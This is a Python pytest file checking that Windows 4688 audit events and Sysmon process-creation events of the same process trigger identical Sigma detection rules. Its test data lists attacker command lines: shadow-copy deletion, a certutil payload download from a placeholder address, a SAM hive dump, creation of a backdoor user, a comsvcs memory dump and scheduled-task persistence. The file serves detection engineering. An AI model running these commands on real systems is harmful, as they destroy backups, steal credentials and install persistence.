"""4688 and Sysmon's event 1 of one process fire the same rules."""

from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import NamedTuple

import orjson
import pytest

from detect.engine import Engine
from detect.mappings.windows import AUDIT
from normalize.frame import Normalizer
from normalize.parse import parse_record
from normalize.registry import Registry
from samlog.event import Event

RULES = Path(__file__).parents[2] / "../shared/data/sigmahq"
NOW = datetime(2026, 11, 22, tzinfo=UTC)
SYSTEM32 = "C:\\Windows\\System32\\"


class Process(NamedTuple):
    image: str
    line: str
    parent: str
    domain: str = "ENHEDA"
    name: str = "åse"
    sid: str = "S-1-5-21-1-2-3-1104"
    label: str = "S-1-16-12288"
    level: str = "High"


ACTED = (
    Process("whoami.exe", "whoami /all", "cmd.exe"),
    Process("vssadmin.exe", "vssadmin delete shadows /all /quiet", "cmd.exe"),
    Process("certutil.exe", "certutil -urlcache -f http://192.0.2.7/å.exe å.exe", "cmd.exe"),
    Process("reg.exe", "reg save HKLM\\SAM C:\\Temp\\sæk.hiv", "cmd.exe"),
    Process("net.exe", "net user bjørn Kodeord1 /add", "cmd.exe"),
    Process("rundll32.exe", "rundll32 comsvcs.dll, MiniDump 624 C:\\ø.dmp full", "cmd.exe"),
    Process("schtasks.exe", "schtasks /create /sc minute /tn ø /tr C:\\Temp\\a.exe", "winword.exe"),
    Process(
        "whoami.exe", "whoami", "w3wp.exe", "NT AUTHORITY", "SYSTEM", "S-1-5-18",
        "S-1-16-16384", "System",
    ),
    Process(
        "cmd.exe", "cmd /c ipconfig", "services.exe", "NT AUTHORITY", "SYSTEM", "S-1-5-18",
        "S-1-16-16384", "System",
    ),
)  # fmt: skip


def sysmon(process: Process) -> bytes:
    """Returns what Sysmon tells, without what the audit never does (hashes, PE fields)."""
    return orjson.dumps(
        {
            "EventID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "SourceName": "Microsoft-Windows-Sysmon",
            "Hostname": "pc-øst",
            "UtcTime": "2026-03-02 17:04:11.204",
            "ProcessId": "6120",
            "Image": SYSTEM32 + process.image,
            "CommandLine": process.line,
            "User": f"{process.domain}\\{process.name}",
            "LogonId": "0x3e7",
            "IntegrityLevel": process.level,
            "ParentProcessId": "5004",
            "ParentImage": SYSTEM32 + process.parent,
        }
    )


def audit(process: Process) -> bytes:
    """Returns what the audit tells; SYSTEM goes by the name of its computer there."""
    system = process.name == "SYSTEM"
    return orjson.dumps(
        {
            "EventID": 4688,
            "Channel": "Security",
            "SourceName": "Microsoft-Windows-Security-Auditing",
            "Hostname": "pc-øst",
            "SubjectUserSid": process.sid,
            "SubjectUserName": "PC-ØST$" if system else process.name,
            "SubjectDomainName": "ENHEDA",
            "SubjectLogonId": "0x3e7",
            "NewProcessId": "0x17e8",
            "NewProcessName": SYSTEM32 + process.image,
            "TokenElevationType": "%%1937",
            "ProcessId": "0x138c",
            "CommandLine": process.line,
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": "-",
            "TargetDomainName": "-",
            "TargetLogonId": "0x0",
            "ParentProcessName": SYSTEM32 + process.parent,
            "MandatoryLabel": process.label,
        }
    )


@pytest.fixture(scope="module")
def normalizer() -> Normalizer:
    return Normalizer({"enheda": {}}, Registry())


@pytest.fixture(scope="module")
def engine() -> Engine:
    folders = list(RULES.glob("rules*/windows/process_creation"))
    if not folders:
        pytest.skip("../shared/data is absent: sigmahq")
    return Engine.load(folders)


def event_of(normalizer: Normalizer, line: bytes) -> Event:
    (event,) = parse_record(line, normalizer, received=NOW)
    return event


def fired(engine: Engine, event: Event) -> Iterator[str]:
    for match in engine.match(event):
        yield match.rule.id


@pytest.mark.parametrize("process", ACTED, ids=lambda process: process.line[:24])
def test_the_same_rules_fire_on_both(
    process: Process, normalizer: Normalizer, engine: Engine
) -> None:
    told = set(fired(engine, event_of(normalizer, sysmon(process))))
    assert told
    assert set(fired(engine, event_of(normalizer, audit(process)))) == told


def test_an_account_other_than_the_creators_is_the_processs(normalizer: Normalizer) -> None:
    raw = orjson.loads(audit(ACTED[0]))
    other = {"TargetUserSid": "S-1-5-20", "TargetUserName": "x", "TargetLogonId": "0x3e4"}
    event = event_of(normalizer, orjson.dumps(raw | other))
    slots = [AUDIT.slot(name) for name in ("User", "LogonId")]
    assert [event[slot[0]] for slot in slots if isinstance(slot, tuple)] == [
        "NT AUTHORITY\\NETWORK SERVICE",
        "0x3e4",
    ]
